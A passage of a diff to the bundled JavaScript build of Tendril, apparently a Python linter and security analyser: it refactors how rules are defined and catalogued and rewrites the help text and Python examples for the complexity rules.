 
 /***/ }),
@@ -6544,12 +7029,12 @@ exports.formatExplain = formatExplain;
 exports.formatResolvedSettings = formatResolvedSettings;
 exports.startProgress = startProgress;
 const errors_1 = __nccwpck_require__(3916);
+const api_1 = __nccwpck_require__(6750);
 const rules_1 = __nccwpck_require__(5755);
 const severity_1 = __nccwpck_require__(2640);
 /** `tendril explain RULE`: one rule's metadata and help, found by id or alias. */
 function formatExplain(name) {
-    const upper = name.toUpperCase();
-    const matches = rules_1.ALL_RULES.filter((r) => r.meta.id === name || r.meta.aliases.some((a) => a.toUpperCase() === upper));
+    const matches = rules_1.ALL_RULES.filter((r) => (0, api_1.namesRule)(name, r.meta));
     if (matches.length === 0)
         throw new errors_1.UsageError(`explain: no rule has the id or alias '${name}' (see 'tendril rules')`);
     return matches
@@ -6651,166 +7136,6 @@ function startProgress(stream, delayMs = 2000) {
                 stream.write('\r\x1b[2K');
         },
     };
-}
-
-
-/***/ }),
-
-/***/ 1938:
-/***/ ((__unused_webpack_module, exports) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.lineHashes = lineHashes;
-/**
- * `primaryLocationLineHash`, computed the way github/codeql-action computes it when it uploads
- * SARIF without fingerprints, so that alerts deduplicate whichever path uploads Tendril's SARIF.
- *
- * The algorithm, as that action documents it: a rolling polynomial hash (base 37, arithmetic modulo
- * 2^64) over a window of the next 100 characters counted from the start of each line, skipping
- * spaces and tabs, with `\r\n`, `\r` and `\n` all read as `\n`; after the last character comes an
- * end marker (65535) and then zeros to fill the window. The text is the file's bytes decoded as
- * UTF-8 (invalid sequences become U+FFFD, a BOM stays), read in UTF-16 code units. Identical hashes
- * in one file are told apart by a `:N` occurrence suffix.
- *
- * The 64-bit arithmetic is done on two 32-bit halves held in plain numbers: every step of a half
- * (`half * 37 + carry - FIRST_MOD half * character`) stays within 2^49 in magnitude, so it is
- * exact in a double; the low half's carry is `floor(t / 2^32)`, and the high half is taken
- * modulo 2^32 with `>>> 0`, exact for any such value.
- */
-const WINDOW = 100;
-const BASE = 37;
-const END_OF_FILE = 65535;
-const TWO_32 = 4294967296;
-/** BASE^WINDOW mod 2^64 as its high and low 32 bits. */
-const FIRST_MOD = (() => {
-    let hi = 0;
-    let lo = 1;
-    for (let i = 0; i < WINDOW; i++) {
-        const t = lo * BASE;
-        const carry = Math.floor(t / TWO_32);
-        lo = t - carry * TWO_32;
-        hi = (hi * BASE + carry) >>> 0;
-    }
-    return [hi, lo];
-})();
-function hex64(hi, lo) {
-    return hi === 0 ? lo.toString(16) : hi.toString(16) + lo.toString(16).padStart(8, '0');
-}
-/**
- * Hashes of the 1-based `wanted` lines of `text` (all lines when `wanted` is omitted), as
- * `"<hex>:<occurrence>"` strings. Stops once the last wanted line is hashed (the occurrence count
- * of a line only depends on the lines before it). One loop, no calls per character: this runs
- * over every character of every file that has a finding. The loop only records each line's hash;
- * occurrences are counted afterwards, and only of the hashes of wanted lines.
- */
-function lineHashes(text, wanted) {
-    let last = wanted ? 0 : Infinity;
-    if (wanted)
-        for (const line of wanted)
-            if (line > last)
-                last = line;
-    const window = new Int32Array(WINDOW);
-    const lineAt = new Int32Array(WINDOW).fill(-1);
-    // The hash of line n + 1, as its high and low 32 bits.
-    const his = [];
-    const los = [];
-    const [fHi, fLo] = FIRST_MOD;
-    let hi = 0;
-    let lo = 0;
-    let index = 0;
-    let lineNumber = 0;
-    let lineStart = true;
-    let prevCR = false;
-    const length = text.length;
-    // Characters of the text, then the end marker, then WINDOW zeros to flush the window.
-    for (let i = 0, stop = length + 1 + WINDOW; i < stop; i++) {
-        let code;
-        if (i < length) {
-            code = text.charCodeAt(i);
-            if (code === 0x20 || code === 0x09 || (prevCR && code === 0x0a)) {
-                prevCR = false;
-                continue;
-            }
-            if (code === 0x0d) {
-                code = 0x0a;
-                prevCR = true;
-            }
-            else
-                prevCR = false;
-        }
-        else
-            code = i === length ? END_OF_FILE : 0;
-        // The line whose window is now full: record its hash (lines complete in order).
-        const line = lineAt[index];
-        if (line !== -1) {
-            his.push(hi);
-            los.push(lo);
-            if (line >= last)
-                break;
-            lineAt[index] = -1;
-        }
-        if (i <= length) {
-            // The end marker is read like a character: after a final newline it starts a last, empty line.
-            if (lineStart) {
-                lineStart = false;
-                lineAt[index] = ++lineNumber;
-            }
-            if (code === 0x0a)
-                lineStart = true;
-        }
-        // hash = hash * BASE + code - FIRST_MOD * begin   (mod 2^64), half by half.
-        const begin = window[index];
-        window[index] = code;
-        const t = lo * BASE + code - fLo * begin;
-        const carry = Math.floor(t / TWO_32);
-        lo = t - carry * TWO_32;
-        hi = (hi * BASE + carry - fHi * begin) >>> 0;
-        index = index === WINDOW - 1 ? 0 : index + 1;
-    }
-    return occurrences(his, los, wanted);
-}
-/**
- * `"<hex>:<occurrence>"` of the wanted lines (all when omitted), from the hashes of lines 1..n:
- * a line's occurrence is 1 + the number of earlier lines with the same hash. Lines whose hash no
- * wanted line has are passed over with one look-up of a small integer (30 bits of the low half).
- */
-function occurrences(his, los, wanted) {
-    const out = new Map();
-    // The distinct hashes of wanted lines, by the small-integer key, with their running counts.
-    const counts = new Map();
-    const entryOf = (k, add) => {
-        const hi = his[k];
-        const lo = los[k];
-        const key = lo & 0x3fffffff;
-        let bucket = counts.get(key);
-        if (!bucket) {
-            if (!add)
-                return undefined;
-            counts.set(key, (bucket = []));
-        }
-        for (const entry of bucket)
-            if (entry.hi === hi && entry.lo === lo)
-                return entry;
-        if (!add)
-            return undefined;
-        const entry = { hi, lo, count: 0 };
-        bucket.push(entry);
-        return entry;
-    };
-    if (wanted)
-        for (const line of wanted)
-            if (line >= 1 && line <= his.length)
-                entryOf(line - 1, true);
-    for (let k = 0; k < his.length; k++) {
-        const entry = entryOf(k, !wanted);
-        if (!entry)
-            continue;
-        entry.count++;
-        if (!wanted || wanted.has(k + 1))
-            out.set(k + 1, `${hex64(entry.hi, entry.lo)}:${entry.count}`);
-    }
-    return out;
 }
 
 
@@ -7350,7 +7675,7 @@ exports.buildSarif = buildSarif;
 exports.formatSarif = formatSarif;
 const url_1 = __nccwpck_require__(7016);
 const rules_1 = __nccwpck_require__(5755);
-const types_1 = __nccwpck_require__(3182);
+const api_1 = __nccwpck_require__(6750);
 const version_1 = __nccwpck_require__(311);
 const limits_1 = __nccwpck_require__(5356);
 /**
@@ -7402,7 +7727,7 @@ function ruleDescriptor(meta) {
         name: meta.name,
         shortDescription: { text: meta.shortDescription },
         fullDescription: { text: meta.fullDescription },
-        defaultConfiguration: { level: (0, types_1.ruleLevel)(meta) },
+        defaultConfiguration: { level: (0, api_1.ruleLevel)(meta) },
         help: { text: markdownToText(meta.help), markdown: meta.help },
         properties,
     };
@@ -7427,7 +7752,7 @@ function resultOf(finding, meta, ruleIndex) {
     const result = {
         ruleId: meta.id,
         ruleIndex,
-        level: (0, types_1.ruleLevel)(meta),
+        level: (0, api_1.ruleLevel)(meta),
         message: { text: finding.message },
         locations: [
             {
@@ -7488,7 +7813,8 @@ function runOf(kind, rules, outcome, runIndex, limits, options) {
         originalUriBaseIds: { [exports.SRCROOT]: { uri: (0, url_1.pathToFileURL)(outcome.settings.root).href.replace(/\/?$/, '/') } },
         invocations: [
             {
-                executionSuccessful: true,
+                // An internal error means a file was not fully analysed by the tool's own fault (the run fails).
+                executionSuccessful: !outcome.notifications.some((n) => n.id === 'internal-error'),
                 toolExecutionNotifications: outcome.notifications.map(notificationOf),
             },
         ],
@@ -7623,6 +7949,256 @@ function formatText(outcome, colour, options = {}) {
 
 /***/ }),
 
+/***/ 6009:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.RULE_MODULES = void 0;
+// Generated by scripts/gen-catalogue.js (run by `npm run build`); do not edit by hand.
+// Every module of the rule folders; src/rules/index.ts keeps what defineRule made.
+const security_apis = __importStar(__nccwpck_require__(1813));
+const security_assert_used = __importStar(__nccwpck_require__(5362));
+const security_bind_all_interfaces = __importStar(__nccwpck_require__(9838));
+const security_blacklist_calls = __importStar(__nccwpck_require__(5113));
+const security_blacklist_imports = __importStar(__nccwpck_require__(1306));
+const security_broad_except = __importStar(__nccwpck_require__(2510));
+const security_call_with_shell_true = __importStar(__nccwpck_require__(6587));
+const security_commands = __importStar(__nccwpck_require__(2962));
+const security_common = __importStar(__nccwpck_require__(8925));
+const security_django_extra = __importStar(__nccwpck_require__(3588));
+const security_django_mark_safe = __importStar(__nccwpck_require__(2223));
+const security_django_raw_sql = __importStar(__nccwpck_require__(829));
+const security_exec_used = __importStar(__nccwpck_require__(8227));
+const security_file_modes = __importStar(__nccwpck_require__(7927));
+const security_flask_debug_true = __importStar(__nccwpck_require__(7640));
+const security_group_executable_file_permissions = __importStar(__nccwpck_require__(4116));
+const security_hardcoded_password_default = __importStar(__nccwpck_require__(5718));
+const security_hardcoded_password_func_arg = __importStar(__nccwpck_require__(5040));
+const security_hardcoded_password_string = __importStar(__nccwpck_require__(6258));
+const security_hardcoded_sql_expression = __importStar(__nccwpck_require__(4826));
+const security_hardcoded_tmp_directory = __importStar(__nccwpck_require__(4032));
+const security_huggingface_unpinned_download = __importStar(__nccwpck_require__(2009));
+const security_insecure_hashlib_function = __importStar(__nccwpck_require__(673));
+const security_jinja2_autoescape_false = __importStar(__nccwpck_require__(5033));
+const security_key_sizes = __importStar(__nccwpck_require__(7538));
+const security_logging_config_insecure_listen = __importStar(__nccwpck_require__(9185));
+const security_mako_templates = __importStar(__nccwpck_require__(9914));
+const security_markup = __importStar(__nccwpck_require__(655));
+const security_paramiko_exec_command = __importStar(__nccwpck_require__(4638));
+const security_password_names = __importStar(__nccwpck_require__(9852));
+const security_pytorch_unsafe_load = __importStar(__nccwpck_require__(8537));
+const security_request_without_cert_validation = __importStar(__nccwpck_require__(7533));
+const security_request_without_timeout = __importStar(__nccwpck_require__(7588));
+const security_short_cryptographic_key = __importStar(__nccwpck_require__(5948));
+const security_snmp_insecure_version = __importStar(__nccwpck_require__(6806));
+const security_snmp_weak_cryptography = __importStar(__nccwpck_require__(5096));
+const security_snmp = __importStar(__nccwpck_require__(3136));
+const security_ssh_no_host_key_verification = __importStar(__nccwpck_require__(1335));
+const security_ssl_insecure_version_default = __importStar(__nccwpck_require__(8318));
+const security_ssl_insecure_version = __importStar(__nccwpck_require__(5546));
+const security_ssl_protocols = __importStar(__nccwpck_require__(3988));
+const security_ssl_with_no_version = __importStar(__nccwpck_require__(7364));
+const security_start_process_with_no_shell = __importStar(__nccwpck_require__(2756));
+const security_start_process_with_partial_path = __importStar(__nccwpck_require__(4251));
+const security_start_process_with_shell_literal = __importStar(__nccwpck_require__(3670));
+const security_start_process_with_shell = __importStar(__nccwpck_require__(740));
+const security_string_literals = __importStar(__nccwpck_require__(3694));
+const security_subprocess_shell_true_literal = __importStar(__nccwpck_require__(3147));
+const security_subprocess_shell_true = __importStar(__nccwpck_require__(5565));
+const security_subprocess_without_shell = __importStar(__nccwpck_require__(9797));
+const security_tarfile_unsafe_members = __importStar(__nccwpck_require__(5120));
+const security_trojan_source = __importStar(__nccwpck_require__(3780));
+const security_try_except_continue = __importStar(__nccwpck_require__(5451));
+const security_try_except_pass = __importStar(__nccwpck_require__(7191));
+const security_unix_command_wildcard_injection = __importStar(__nccwpck_require__(6997));
+const security_unsafe_markup_use = __importStar(__nccwpck_require__(4429));
+const security_weak_cryptographic_key = __importStar(__nccwpck_require__(8048));
+const security_world_writable_file_permissions = __importStar(__nccwpck_require__(6455));
+const security_yaml_unsafe_load = __importStar(__nccwpck_require__(9307));
+const maintainability_binding_rule = __importStar(__nccwpck_require__(7663));
+const maintainability_cognitive_complexity = __importStar(__nccwpck_require__(4466));
+const maintainability_complexity_threshold = __importStar(__nccwpck_require__(1063));
+const maintainability_cyclomatic_complexity = __importStar(__nccwpck_require__(1480));
+const maintainability_inconsistent_naming = __importStar(__nccwpck_require__(8423));
+const maintainability_invalid_argument_name = __importStar(__nccwpck_require__(1734));
+const maintainability_invalid_class_name = __importStar(__nccwpck_require__(8643));
+const maintainability_invalid_function_name = __importStar(__nccwpck_require__(2191));
+const maintainability_invalid_variable_name = __importStar(__nccwpck_require__(7479));
+const maintainability_missing_class_docstring = __importStar(__nccwpck_require__(8878));
+const maintainability_missing_function_docstring = __importStar(__nccwpck_require__(2428));
+const maintainability_missing_module_docstring = __importStar(__nccwpck_require__(2744));
+const maintainability_naming_conventions = __importStar(__nccwpck_require__(8208));
+const maintainability_too_many_arguments = __importStar(__nccwpck_require__(6378));
+const maintainability_too_many_branches = __importStar(__nccwpck_require__(2412));
+const maintainability_too_many_nested_blocks = __importStar(__nccwpck_require__(9502));
+const maintainability_too_many_statements = __importStar(__nccwpck_require__(6762));
+const maintainability_unused_import = __importStar(__nccwpck_require__(9673));
+const maintainability_unused_suppression = __importStar(__nccwpck_require__(2477));
+const maintainability_unused_variable = __importStar(__nccwpck_require__(4800));
+exports.RULE_MODULES = [
+    security_apis,
+    security_assert_used,
+    security_bind_all_interfaces,
+    security_blacklist_calls,
+    security_blacklist_imports,
+    security_broad_except,
+    security_call_with_shell_true,
+    security_commands,
+    security_common,
+    security_django_extra,
+    security_django_mark_safe,
+    security_django_raw_sql,
+    security_exec_used,
+    security_file_modes,
+    security_flask_debug_true,
+    security_group_executable_file_permissions,
+    security_hardcoded_password_default,
+    security_hardcoded_password_func_arg,
+    security_hardcoded_password_string,
+    security_hardcoded_sql_expression,
+    security_hardcoded_tmp_directory,
+    security_huggingface_unpinned_download,
+    security_insecure_hashlib_function,
+    security_jinja2_autoescape_false,
+    security_key_sizes,
+    security_logging_config_insecure_listen,
+    security_mako_templates,
+    security_markup,
+    security_paramiko_exec_command,
+    security_password_names,
+    security_pytorch_unsafe_load,
+    security_request_without_cert_validation,
+    security_request_without_timeout,
+    security_short_cryptographic_key,
+    security_snmp_insecure_version,
+    security_snmp_weak_cryptography,
+    security_snmp,
+    security_ssh_no_host_key_verification,
+    security_ssl_insecure_version_default,
+    security_ssl_insecure_version,
+    security_ssl_protocols,
+    security_ssl_with_no_version,
+    security_start_process_with_no_shell,
+    security_start_process_with_partial_path,
+    security_start_process_with_shell_literal,
+    security_start_process_with_shell,
+    security_string_literals,
+    security_subprocess_shell_true_literal,
+    security_subprocess_shell_true,
+    security_subprocess_without_shell,
+    security_tarfile_unsafe_members,
+    security_trojan_source,
+    security_try_except_continue,
+    security_try_except_pass,
+    security_unix_command_wildcard_injection,
+    security_unsafe_markup_use,
+    security_weak_cryptographic_key,
+    security_world_writable_file_permissions,
+    security_yaml_unsafe_load,
+    maintainability_binding_rule,
+    maintainability_cognitive_complexity,
+    maintainability_complexity_threshold,
+    maintainability_cyclomatic_complexity,
+    maintainability_inconsistent_naming,
+    maintainability_invalid_argument_name,
+    maintainability_invalid_class_name,
+    maintainability_invalid_function_name,
+    maintainability_invalid_variable_name,
+    maintainability_missing_class_docstring,
+    maintainability_missing_function_docstring,
+    maintainability_missing_module_docstring,
+    maintainability_naming_conventions,
+    maintainability_too_many_arguments,
+    maintainability_too_many_branches,
+    maintainability_too_many_nested_blocks,
+    maintainability_too_many_statements,
+    maintainability_unused_import,
+    maintainability_unused_suppression,
+    maintainability_unused_variable,
+];
+
+
+/***/ }),
+
+/***/ 5544:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.renderHelp = renderHelp;
+exports.defineRule = defineRule;
+exports.docsOf = docsOf;
+const DOCS = new WeakMap();
+/** The Markdown help of a rule, from its docs. */
+function renderHelp(docs) {
+    const python = (code) => '```python\n' + code.trim() + '\n```';
+    return [
+        `# ${docs.title}`,
+        docs.why.trim(),
+        '## Example',
+        python(docs.example),
+        ...(docs.exampleNote ? [docs.exampleNote.trim()] : []),
+        '## How to fix',
+        docs.fix.trim(),
+        python(docs.fixed),
+        '## What is not reported',
+        docs.notReported.map((line) => `- ${line}`).join('\n'),
+        ...(docs.more ? [docs.more.trim()] : []),
+    ].join('\n\n');
+}
+/** Makes a rule from its definition. */
+function defineRule(definition) {
+    const meta = { ...definition.meta, help: renderHelp(definition.docs) };
+    const rule = {
+        meta,
+        ...(definition.uses ? { uses: definition.uses } : {}),
+        create: (context) => definition.create(context.forRule(meta)),
+    };
+    DOCS.set(rule, definition.docs);
+    return rule;
+}
+/** The documentation of a rule made by `defineRule`; undefined for a rule made any other way. */
+function docsOf(rule) {
+    return DOCS.get(rule);
+}
+
+
+/***/ }),
+
 /***/ 5755:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
@@ -7633,10 +8209,38 @@ exports.rulesOfKind = rulesOfKind;
 exports.selectRules = selectRules;
 exports.rulesById = rulesById;
 const errors_1 = __nccwpck_require__(3916);
-const maintainability_1 = __nccwpck_require__(7225);
-const security_1 = __nccwpck_require__(6874);
-/** The catalogue: every rule Tendril has, security first, each kind sorted by id. */
-exports.ALL_RULES = [...security_1.SECURITY_RULES, ...maintainability_1.MAINTAINABILITY_RULES].sort((a, b) => (a.meta.kind === b.meta.kind ? (a.meta.id < b.meta.id ? -1 : 1) : a.meta.kind === 'security' ? -1 : 1));
+const api_1 = __nccwpck_require__(6750);
+const catalogue_generated_1 = __nccwpck_require__(6009);
+const define_1 = __nccwpck_require__(5544);
+/** The rules a module exports: values made by defineRule, alone or in a table (an array). */
+function rulesOf(module) {
+    const out = [];
+    for (const value of Object.values(module)) {
+        if (Array.isArray(value))
+            out.push(...value.filter((item) => (0, define_1.docsOf)(item) !== undefined));
+        else if (value && typeof value === 'object' && (0, define_1.docsOf)(value))
+            out.push(value);
+    }
+    return out;
+}
+function collect() {
+    const seen = new Map();
+    for (const module of catalogue_generated_1.RULE_MODULES) {
+        for (const rule of rulesOf(module)) {
+            const other = seen.get(rule.meta.id);
+            if (other && other !== rule)
+                throw new Error(`two rules have the id ${rule.meta.id}`);
+            seen.set(rule.meta.id, rule);
+        }
+    }
+    return [...seen.values()];
+}
+/**
+ * The catalogue: every rule Tendril has, security first, each kind sorted by id. It is collected
+ * from the modules of src/rules/security and src/rules/maintainability (scripts/gen-catalogue.js
+ * lists them), so a rule is added by writing its file.
+ */
+exports.ALL_RULES = collect().sort((a, b) => (a.meta.kind === b.meta.kind ? (a.meta.id < b.meta.id ? -1 : 1) : a.meta.kind === 'security' ? -1 : 1));
 function rulesOfKind(kind) {
     return exports.ALL_RULES.filter((rule) => rule.meta.kind === kind);
 }
@@ -7649,9 +8253,7 @@ function selectRules(selectors, what = 'rule') {
     const chosen = new Set();
     for (const selector of selectors) {
         const key = selector.trim();
-        const matches = exports.ALL_RULES.filter((rule) => rule.meta.id === key ||
-            rule.meta.kind === key ||
-            rule.meta.aliases.some((alias) => alias.toUpperCase() === key.toUpperCase()));
+        const matches = exports.ALL_RULES.filter((rule) => rule.meta.kind === key || (0, api_1.namesRule)(key, rule.meta));
         if (matches.length === 0) {
             throw new errors_1.UsageError(`unknown ${what} '${key}': use a rule id, an alias such as F401, or security/maintainability (see 'tendril rules')`);
         }
@@ -7672,6 +8274,48 @@ function rulesById(ids) {
 
 /***/ }),
 
+/***/ 7663:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.bindingRule = bindingRule;
+/**
+ * The common shape of the rules that judge the bindings of the shared scope model
+ * (src/analysis/scopes.ts) once the walk is over: each binding of the file, in the model's order,
+ * is given to the rule's judge, which returns nothing, a message (reported on the bound name) or
+ * a message with the node to report it on.
+ */
+const scopes_1 = __nccwpck_require__(7985);
+const define_1 = __nccwpck_require__(5544);
+function bindingRule(definition) {
+    const { judge, ...rest } = definition;
+    return (0, define_1.defineRule)({
+        ...rest,
+        uses: [scopes_1.scopes],
+        create(context) {
+            return {
+                end() {
+                    const model = context.analysis(scopes_1.scopes);
+                    const verdictOf = judge(context, model);
+                    for (const binding of model.bindings) {
+                        const verdict = verdictOf(binding);
+                        if (verdict === undefined)
+                            continue;
+                        if (typeof verdict === 'string')
+                            context.report(binding.node, verdict);
+                        else
+                            context.report(verdict.node, verdict.message);
+                    }
+                },
+            };
+        },
+    });
+}
+
+
+/***/ }),
+
 /***/ 4466:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
@@ -7680,9 +8324,20 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.cognitiveComplexity = void 0;
 /** SonarSource's Cognitive Complexity (Sonar S3776): how hard a function is to read. No Ruff rule. */
 const complexity_threshold_1 = __nccwpck_require__(1063);
-const HELP = `# A function is hard to follow
-
-Cognitive complexity, as defined by SonarSource, scores how hard a function is to read rather than
+exports.cognitiveComplexity = (0, complexity_threshold_1.thresholdRule)({
+    meta: {
+        id: 'cognitive-complexity',
+        name: 'CognitiveComplexity',
+        shortDescription: 'A function has a cognitive complexity above the threshold',
+        fullDescription: 'A function scores above the threshold on SonarSource\'s Cognitive Complexity: breaks in the ' +
+            'linear flow (conditions, loops, exception handlers, boolean operator sequences, recursion), ' +
+            'weighted by how deeply they are nested. Such functions are hard to read and to review.',
+        aliases: ['S3776'],
+        precision: 'high',
+    },
+    docs: {
+        title: 'A function is hard to follow',
+        why: `Cognitive complexity, as defined by SonarSource, scores how hard a function is to read rather than
 how many paths it has: every break in the linear flow costs 1, and costs more the deeper it is
 nested, because the reader must keep every enclosing condition in mind.
 
@@ -7692,42 +8347,41 @@ nested, because the reader must keep every enclosing condition in mind.
 - +1 for each sequence of like boolean operators: \`a and b and c\` is 1, \`a and b or c\` is 2.
 - +1 for each direct recursive call.
 - The nesting level rises inside those blocks, in nested functions and in lambdas. \`try\`,
-  \`finally\`, \`with\` and \`else\` of a \`try\` add nothing.
-
-## Example
-
-\`\`\`python
-def total(orders):
+  \`finally\`, \`with\` and \`else\` of a \`try\` add nothing.`,
+        example: `def total(orders):
     result = 0
     for order in orders:                 # +1
         if order.paid:                   # +2 (nesting 1)
             for line in order.lines:     # +3 (nesting 2)
                 if line.qty and line.price:  # +4 (nesting 3), +1 (and)
                     result += line.qty * line.price
-    return result
-\`\`\`
-
-## How to fix
-
-Flatten the function: return or \`continue\` early instead of nesting, extract inner loops and
+                else:                    # +1
+                    log.warning("empty line in order %s", order.id)
+        elif order.refunded:             # +1
+            while order.credits:         # +3 (nesting 2)
+                result -= order.credits.pop()
+    return result                        # 16 in all`,
+        fix: `Flatten the function: return or \`continue\` early instead of nesting, extract inner loops and
 conditions into named helpers, and name complex conditions with a variable or a small function.
-The threshold is the \`max-complexity\` option (default 15, SonarSource's default for Python).
+The threshold is the \`max-complexity\` option (default 15, SonarSource's default for Python).`,
+        fixed: `def total(orders):
+    return sum(order_total(order) for order in orders)
 
-## What is not reported
 
-Functions at or below the threshold. A nested function's score counts for the function that
-contains it (at a deeper nesting level) and it is also measured on its own.`;
-exports.cognitiveComplexity = (0, complexity_threshold_1.thresholdRule)({
-    meta: {
-        id: 'cognitive-complexity',
-        name: 'CognitiveComplexity',
-        shortDescription: 'A function has a cognitive complexity above the threshold',
-        fullDescription: 'A function scores above the threshold on SonarSource\'s Cognitive Complexity: breaks in the ' +
-            'linear flow (conditions, loops, exception handlers, boolean operator sequences, recursion), ' +
-            'weighted by how deeply they are nested. Such functions are hard to read and to review.',
-        help: HELP,
-        aliases: ['S3776'],
-        precision: 'high',
+def order_total(order):
+    if order.refunded:                   # +1
+        return -sum(order.credits)
+    if not order.paid:                   # +1
+        return 0
+    return sum(line_total(line) for line in order.lines)
+
+
+def line_total(line):
+    priced = line.qty and line.price     # +1 (and)
+    return line.qty * line.price if priced else 0  # +1`,
+        notReported: ['Functions at or below the threshold.'],
+        more: `A nested function's score counts for the function that contains it (at a deeper nesting level)
+and it is also measured on its own.`,
     },
     option: 'max-complexity',
     defaultThreshold: 15,
@@ -7751,33 +8405,34 @@ exports.thresholdRule = thresholdRule;
  * when the measure is greater than the threshold. The message states both numbers.
  */
 const complexity_1 = __nccwpck_require__(600);
+const define_1 = __nccwpck_require__(5544);
 function thresholdRule(spec) {
-    const meta = {
-        ...spec.meta,
-        kind: 'maintainability',
-        category: 'complexity',
-        problemSeverity: 'recommendation',
-        options: {
-            [spec.option]: { type: 'integer', default: spec.defaultThreshold, min: 0, description: spec.optionDescription },
+    return (0, define_1.defineRule)({
+        meta: {
+            ...spec.meta,
+            kind: 'maintainability',
+            category: 'complexity',
+            problemSeverity: 'recommendation',
+            options: {
+                [spec.option]: { type: 'integer', default: spec.defaultThreshold, min: 0, description: spec.optionDescription },
+            },
         },
-    };
-    return {
-        meta,
+        docs: spec.docs,
         uses: [complexity_1.complexity],
         create(context) {
             return {
                 end() {
-                    const threshold = context.option(meta, spec.option);
-                    const model = context.analysis(complexity_1.complexity.name);
+                    const threshold = context.option(spec.option);
+                    const model = context.analysis(complexity_1.complexity);
                     for (const metrics of model.functions) {
                         const value = spec.measure(metrics);
                         if (value > threshold)
-                            context.report(meta, metrics.nameNode, `${spec.describe(metrics, value)} (threshold ${threshold})`);
+                            context.report(metrics.nameNode, `${spec.describe(metrics, value)} (threshold ${threshold})`);
                     }
                 },
             };
         },
-    };
+    });
 }
 
 
@@ -7791,44 +8446,6 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.cyclomaticComplexity = void 0;
 /** Ruff / mccabe C901: a function whose McCabe complexity is greater than the threshold (default 10). */
 const complexity_threshold_1 = __nccwpck_require__(1063);
-const HELP = `# A function has too many independent paths
-
-McCabe's cyclomatic complexity counts the decision points of a function: the number of paths a
-test suite must take to run every branch. Past about ten, a function is hard to test completely
-and hard to change without breaking one of its paths.
-
-The count is Ruff's (rule C901, from the mccabe plugin): 1, plus 1 for each \`if\`, \`elif\`,
-\`for\`, \`while\`, \`except\` handler, \`else\` of a \`try\`, and \`case\` of a \`match\` (a final
-catch-all \`case _:\` adds nothing), and 1 for each nested \`def\` together with its own decision
-points. \`else\` of an \`if\` or a loop, \`with\`, \`finally\`, boolean operators, conditional
-expressions, comprehensions and lambdas add nothing.
-
-## Example
-
-\`\`\`python
-def shipping(order):
-    if order.express:
-        ...
-    elif order.country == "FR":
-        ...
-    for item in order.items:
-        if item.fragile:
-            ...
-    ...
-\`\`\`
-
-## How to fix
-
-Split the function: move each independent decision into a helper with a name that says what it
-decides, replace long \`if\`/\`elif\` chains on one value with a dictionary lookup, and return early
-instead of nesting. Raise the threshold with the \`max-complexity\` option if your team agrees on
-another limit.
-
-## What is not reported
-
-Functions at or below the threshold, lambdas, and module or class bodies outside functions. A
-nested function is reported on its own when it is over the threshold, and its decision points also
-count for the function that contains it, as Ruff counts them.`;
 exports.cyclomaticComplexity = (0, complexity_threshold_1.thresholdRule)({
     meta: {
         id: 'cyclomatic-complexity',
@@ -7837,9 +8454,64 @@ exports.cyclomaticComplexity = (0, complexity_threshold_1.thresholdRule)({
         fullDescription: 'A function has more decision points (if, elif, loops, except handlers, match cases, nested ' +
             'functions) than the threshold allows, counted as Ruff and mccabe count them (C901). Such ' +
             'functions have many independent paths, which are hard to test and to change safely.',
-        help: HELP,
         aliases: ['C901'],
         precision: 'very-high',
+    },
+    docs: {
+        title: 'A function has too many independent paths',
+        why: `McCabe's cyclomatic complexity counts the decision points of a function: the number of paths a
+test suite must take to run every branch. Past about ten, a function is hard to test completely
+and hard to change without breaking one of its paths.
+
+The count is Ruff's (rule C901, from the mccabe plugin): 1, plus 1 for each \`if\`, \`elif\`,
+\`for\`, \`while\`, \`except\` handler, \`else\` of a \`try\`, and \`case\` of a \`match\` (a final
+catch-all \`case _:\` adds nothing), and 1 for each nested \`def\` together with its own decision
+points. \`else\` of an \`if\` or a loop, \`with\`, \`finally\`, boolean operators, conditional
+expressions, comprehensions and lambdas add nothing.`,
+        example: `def shipping(order):  # complexity 11
+    if order.express:
+        ...
+    elif order.country == "FR":
+        ...
+    elif order.country == "DE":
+        ...
+    for item in order.items:
+        if item.fragile:
+            ...
+        elif item.heavy:
+            ...
+        if item.oversized:
+            ...
+    while order.pending:
+        ...
+    try:
+        ...
+    except LookupError:
+        ...
+    except ValueError:
+        ...`,
+        fix: `Split the function: move each independent decision into a helper with a name that says what it
+decides, replace long \`if\`/\`elif\` chains on one value with a dictionary lookup, and return early
+instead of nesting. Raise the threshold with the \`max-complexity\` option if your team agrees on
+another limit.`,
+        fixed: `RATES = {"FR": ..., "DE": ...}
+
+
+def shipping(order):
+    rate = EXPRESS if order.express else RATES.get(order.country, DEFAULT)
+    return rate + sum(handling(item) for item in order.items)
+
+
+def handling(item):
